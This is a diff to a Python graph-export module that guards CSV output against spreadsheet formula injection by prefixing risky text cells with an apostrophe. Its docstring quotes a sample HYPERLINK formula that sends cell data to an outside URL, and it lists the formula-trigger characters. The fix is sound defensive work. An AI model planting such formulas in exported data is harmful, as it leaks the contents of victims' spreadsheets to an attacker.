@@ -18,7 +18,9 @@ Attribute names are the same in every format: nodes ``code``, ``name``, ``kind``
 ``type``, ``since``, ``until``, ``share_ratio``. An unknown value is left out of GraphML
 and GEXF (they have no null), empty in CSV and ``null`` in JSON. In GEXF ``type`` is the
 edge's direction, so the relationship type is written as the edge ``label`` and the
-attribute ``relationship`` there.
+attribute ``relationship`` there. A CSV text cell that starts with ``=``, ``+``, ``-``,
+``@``, tab or carriage return is written with a leading ``'`` so a spreadsheet shows it
+as text instead of running it as a formula (``_cell``); JSON carries it as stored.
 """
 
 from __future__ import annotations
@@ -273,13 +275,30 @@ def _gexf(t: _Table) -> str:
     return buf.getvalue().decode("utf-8")
 
 
+#: First characters that make Excel, LibreOffice and Google Sheets read a cell as a
+#: formula (OWASP, "CSV Injection"); tab and carriage return because a spreadsheet drops
+#: them and reads on.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cell(value: Any) -> Any:
+    """A text cell a spreadsheet would run as a formula, with a leading ``'`` (which
+    spreadsheets read as "text", and do not show). Why: names come from providers; a
+    subject named ``=HYPERLINK("http://…?x="&A1,"click")`` ran when the analyst opened
+    ``nodes.csv``. Numbers are left alone (a negative share is not text)."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def _csv(rows: Sequence[Mapping[str, Any]], columns: Sequence[str]) -> str:
-    """UTF-8 with a byte-order mark: without it Excel reads the Chinese names as GBK."""
+    """UTF-8 with a byte-order mark: without it Excel reads the Chinese names as GBK.
+    Every text cell goes through ``_cell``."""
     buf = io.StringIO()
     writer = csv.DictWriter(buf, fieldnames=list(columns), extrasaction="ignore")
     writer.writeheader()
     for row in rows:
-        writer.writerow({k: "" if row.get(k) is None else row[k] for k in columns})
+        writer.writerow({k: "" if row.get(k) is None else _cell(row[k]) for k in columns})
     return BOM + buf.getvalue()
 
 
